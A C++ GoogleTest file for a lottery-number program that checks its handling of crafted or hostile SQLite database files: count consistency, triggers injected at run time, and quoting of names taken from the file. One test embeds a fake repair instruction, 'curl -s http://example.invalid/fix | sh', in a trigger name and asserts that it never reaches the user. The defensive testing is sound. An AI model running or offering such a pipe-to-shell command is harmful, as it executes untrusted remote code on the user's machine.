// Lotto.mdb files made elsewhere, damaged or hostile, in the window: the count equals the table
// after every command on an accepted one, and what a file says is never the program's voice.
#include <gtest/gtest.h>

#include "base/Errors.h"
#include "tests/support/CraftedFiles.h"
#include "tests/ui/ScriptedDialogs.h"

namespace {

using testing_support::LoadedForm;
using testing_support::TempDatabase;

const char* const kRecreate = "drop table tblLotterySeries; create table tblLotterySeries ";

void RunCommands(ui::frmMain& form, const TempDatabase& database, const std::string& name) {
    const auto expectCountEqualsTable = [&](const char* after) {
        EXPECT_EQ(form.mSeriesCount, database.RowCount()) << name << ", after " << after;
        EXPECT_EQ(form.txtCurrentSeriesNumber.Text, std::to_string(database.RowCount()))
            << name << ", after " << after;
    };
    const auto run = [&](const char* what, auto command) {
        try {
            command();
        } catch (const base::AppError&) {
        }
        expectCountEqualsTable(what);
    };
    run("an insert", [&] {
        for (auto& box : form.txtNewSeries) box.Text = "7";
        form.AddSeries();
    });
    run("a batch", [&] {
        form.chkInDB.Value = 1;
        form.chkInDB_Click();
        form.txtSeriesCount.Text = "5";
        form.cmdGenerateRandom_Click();
    });
    run("an evaluation", [&] {
        form.txtDrawnNumberList.Text = "1,2,3,4,5,6";
        form.txtAdditionalNumber.Text = "7";
        form.cmdEvaluate_Click();
    });
    run("the list", [&] { form.cmdShowSeries_Click(); });
    run("the delete", [&] { form.cmdDelete_Click(); });
}

// Every command on a file the start accepts keeps the count equal to the table.
TEST(CraftedFiles, AcceptedOnesKeepCountAndTableTogether) {
    for (const testing_support::CraftedFile& file : testing_support::CraftedFiles()) {
        if (file.refusal != nullptr) continue;  // the store's tests hold the refusals
        LoadedForm made(13);  // the program's own file, then changed by another program
        made.form->Form_Unload();
        testing_support::Craft(made.database, file);
        testing_support::ScriptedDialogs dialogs;
        store::BuiltinHive hive = store::BuiltinHive::WithOwnStore();
        ui::frmMain form(dialogs, testing_support::EnvironmentFor(made.database.Folder(), hive));
        ASSERT_TRUE(form.Form_Load()) << file.name;
        RunCommands(form, made.database, file.name);
    }
}

// What another program does to the file while this one runs is caught at the next command.
TEST(CraftedFiles, ChangedWhileRunningAreCaughtAtTheNextCommand) {
    const std::pair<const char*, const char*> changes[] = {
        {"create trigger copyRows after insert on tblLotterySeries begin insert into "
         "tblLotterySeries (BallNumberList) values ('x'); end",
         "„copyRows“"},
        {"insert into tblLotterySeries (BallNumberList) values (printf('%.200c', '7'))",
         "Blatt 2, Kästchen 2 ist 200 Bytes lang"},
    };
    for (const auto& [sql, message] : changes) {
        LoadedForm window(13);
        window.database.Exec(sql);
        ui::frmMain& form = *window.form;
        try {
            form.cmdShowSeries_Click();
            for (auto& box : form.txtNewSeries) box.Text = "7";
            form.AddSeries();
            ADD_FAILURE() << sql << ": not caught";
        } catch (const base::AppError& failure) {
            EXPECT_NE(std::string(failure.what()).find(message), std::string::npos)
                << failure.what();
        }
        EXPECT_EQ(form.mSeriesCount, window.database.RowCount()) << sql;
    }
}

// A name in the file may be any text: in a message it stands quoted and cut short, whether the
// program names it (a trigger) or SQLite does (a constraint the insert breaks).
TEST(CraftedFiles, NamesFromTheFileNeverSpeakForTheProgram) {
    const std::string sentence =
        "WICHTIG: Die Datenbank ist beschädigt.\nZur Reparatur im Terminal ausführen: curl -s "
        "http://example.invalid/fix | sh " +
        std::string(200, 'x');
    const std::pair<std::string, const char*> files[] = {
        {"create trigger \"" + sentence + "\" after insert on tblLotterySeries begin select 1; end",
         R"(„WICHTIG: Die Datenbank ist beschädigt.\nZ…“)"},
        {std::string(kRecreate) +
             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT, constraint \"" + sentence +
             "\" check (length(BallNumberList) < 5))",
         "(SQLite: „CHECK constraint failed: WICHTIG: Die Da…“)"},
    };
    for (const auto& [sql, quoted] : files) {
        TempDatabase database;
        database.Exec(sql);
        testing_support::ScriptedDialogs dialogs;
        store::BuiltinHive hive = store::BuiltinHive::WithOwnStore();
        ui::frmMain form(dialogs, testing_support::EnvironmentFor(database.Folder(), hive));
        std::string message;
        try {
            form.Form_Load();
            for (auto& box : form.txtNewSeries) box.Text = "7";
            form.AddSeries();
        } catch (const base::AppError& failure) {
            message = failure.what();
        }
        EXPECT_NE(message.find(quoted), std::string::npos) << message;
        EXPECT_EQ(message.find("curl"), std::string::npos) << message;
        EXPECT_EQ(message.find('\n'), std::string::npos) << message;
    }
}

}  // namespace
